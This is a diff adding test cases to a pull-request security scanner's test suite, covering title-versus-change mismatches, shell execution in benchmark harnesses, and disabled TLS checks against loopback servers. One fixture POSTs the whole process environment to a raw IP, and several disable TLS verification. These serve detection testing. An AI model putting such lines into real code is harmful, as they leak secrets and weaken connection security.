@@ -1277,6 +1277,13 @@ describe('pr-claim-mismatch: false alarms and a miss from Go, Rust and JVM histo
     expect(claimOf('src/parse.ts', logic, 'docs: clarify setup and usage')).toEqual(['src/parse.ts:731']);
   });
 
+  it('a formatting title that also announces a CI change ("and enforce it in CI") makes no claim over the workflow it announces; the formatting title alone does', () => {
+    const lint = ['@@ -20,3 +20,5 @@', '     steps:', '       - uses: actions/checkout@v4', '+      - run: go install mvdan.cc/gofumpt@v0.7.0', '+      - run: test -z "$(gofumpt -l .)"'].join('\n');
+    expect(claimOf('.github/workflows/lint.yml', lint, 'Format whole codebase with gofumpt and enforce it in CI')).toEqual([]);
+    expect(claimOf('.github/workflows/lint.yml', lint, 'Format whole codebase with gofumpt and require it in CI')).toEqual([]);
+    expect(claimOf('.github/workflows/lint.yml', lint, 'Format whole codebase with gofumpt')).toEqual(['.github/workflows/lint.yml:22']);
+  });
+
   it('rustdoc attributes under a docs claim are documentation; a cfg gate under the same title is code', () => {
     const gate = ['@@ -130,3 +130,4 @@', ' /// ```', '+#[cfg_attr(docsrs, doc(cfg(feature = "erased-json")))]', ' #[macro_export]', ' macro_rules! json {'].join('\n');
     expect(claimOf('crates/extra/src/response/erased_json.rs', gate, 'docs: Document that the json macro is feature-gated')).toEqual([]);
@@ -1813,5 +1820,60 @@ describe('false alarms from C++, Python and Go projects (2026-11-28)', () => {
     // The code itself changed beside the comment: new.
     const changed = hunk(['\tcmd := exec.Command(os.Args[1], "run") //nolint:gosec'], ['\tcmd := exec.Command(os.Args[0], "run")']);
     expect(scan([makeFile('cmd/start.go', { patch: changed })]).map((f) => [f.id, f.severity])).toEqual([['shell-command-execution', 'medium']]);
+  });
+});
+
+describe('code rules: benchmark harnesses are dev-only tooling, like tests (2026-11-29)', () => {
+  const ids = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).map((f) => [f.id, f.severity]);
+  const harness = ['const branches = process.argv.slice(2);', 'for (const branch of branches) {', '  execSync(`git checkout ${branch}`);', '  fork(runner, [], { env: { ...process.env, BENCH_DIR: process.env.BENCH_OUT } });', '}'];
+
+  it('a benchmark harness that checks out branches and forks runners is not shell execution on input', () => {
+    expect(ids('benchmarking/compare/index.js', harness)).toEqual([]);
+    expect(ids('benches/runner.js', harness)).toEqual([]);
+    expect(ids('packages/core/bench/run.js', harness)).toEqual([]);
+  });
+
+  it('a benchmarking library\'s own code under a source tree is still code; a harness that sends the environment to a raw IP is still reported', () => {
+    expect(ids('src/benchmark/compare.js', harness).map(([id]) => id)).toContain('shell-command-execution');
+    const leak = ['const body = JSON.stringify(process.env);', 'await fetch("http://203.0.113.9/collect", { method: "POST", body });'];
+    expect(ids('benchmarks/report.js', leak).map(([id]) => id)).toContain('suspicious-network-endpoint');
+  });
+});
+
+describe('code rules: TLS verification off against the script\'s own loopback server (2026-11-29)', () => {
+  const tls = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).filter((f) => f.id === 'tls-verification-disabled').map((f) => f.severity);
+  const server = ["import { createSecureServer } from 'node:http2';", 'const server = createSecureServer(await selfSigned());', 'server.listen(0);'];
+
+  it('is low when the code starts its own server and names only loopback hosts', () => {
+    expect(tls('repro-pipelining.mjs', [...server, 'const url = `https://localhost:${server.address().port}/`;', 'const agent = new Agent({ connect: { rejectUnauthorized: false } });'])).toEqual(['low']);
+    expect(tls('scripts/probe.js', [...server, "const agent = new Agent({ connect: { host: '127.0.0.1', rejectUnauthorized: false } });"])).toEqual(['low']);
+    expect(tls('tools/check_tls.py', ['httpd = HTTPServer(("127.0.0.1", 0), Handler)', 'requests.get("https://[::1]:8443/", verify=False)'])).toEqual(['low']);
+  });
+
+  it('stays high with another host in reach, a host that is not a literal, or no server of its own', () => {
+    expect(tls('repro-pipelining.mjs', [...server, 'const url = `https://localhost:${server.address().port}/`;', "await fetch('https://api.example.org/x');", 'const agent = new Agent({ connect: { rejectUnauthorized: false } });'])).toEqual(['high']);
+    expect(tls('repro-pipelining.mjs', [...server, 'const url = `https://${process.argv[2]}/`;', 'const agent = new Agent({ connect: { rejectUnauthorized: false } });'])).toEqual(['high']);
+    expect(tls('scripts/probe.js', [...server, 'const agent = new Agent({ connect: { host: target, servername: "localhost", rejectUnauthorized: false } });'])).toEqual(['high']);
+    expect(tls('src/client.js', ['const url = "https://localhost:8443/";', 'const agent = new Agent({ connect: { rejectUnauthorized: false } });'])).toEqual(['high']);
+  });
+});
+
+describe('pr-claim-mismatch: a docs generator under a docs claim (2026-11-29)', () => {
+  const mismatch = (title: string, scriptPath: string, scriptHead: string, docs: string[]): string[] => {
+    const patch = ['@@ -10,3 +10,3 @@', '-  const rows = features.map(renderRow);', '+  const rows = features.filter((f) => f.since !== null).map(renderRow);', ...scriptHead.split('\n').filter((l) => l !== '').map((l) => ` ${l}`)].join('\n');
+    const files = [makeFile(scriptPath, { patch }), ...docs.map((d) => makeFile(d, { patch: hunk(['| feature | 98 |'], ['| feature | 97 |']) }))];
+    const snapshot = makeSnapshot({ title, files, commits: [makeCommit({ message: title })] });
+    return scanCodeChanges(snapshot, (path) => classifier.info(path)).filter((f) => f.id === 'pr-claim-mismatch').map((f) => f.path);
+  };
+  const generator = "const rows = [];\ngenerate('browser-support.md', render(rows));\n";
+
+  it('a script under scripts/ that names the docs page the PR regenerates is the docs work the claim says', () => {
+    expect(mismatch('docs: tidy the browser support page', 'packages/ui/scripts/generate-browser-support.ts', generator, ['documentation/docs/misc/browser-support.md'])).toEqual([]);
+  });
+
+  it('a script that names no changed docs page, or sits outside scripts/, or a docs page the PR does not change, still contradicts the claim', () => {
+    expect(mismatch('docs: tidy the browser support page', 'packages/ui/scripts/release.ts', 'publish(packages);\n', ['documentation/docs/misc/browser-support.md'])).toEqual(['packages/ui/scripts/release.ts']);
+    expect(mismatch('docs: tidy the browser support page', 'packages/ui/src/support.ts', generator, ['documentation/docs/misc/browser-support.md'])).toEqual(['packages/ui/src/support.ts']);
+    expect(mismatch('docs: tidy the browser support page', 'packages/ui/scripts/generate-browser-support.ts', generator, ['documentation/docs/misc/other.md'])).toEqual(['packages/ui/scripts/generate-browser-support.ts']);
   });
 });
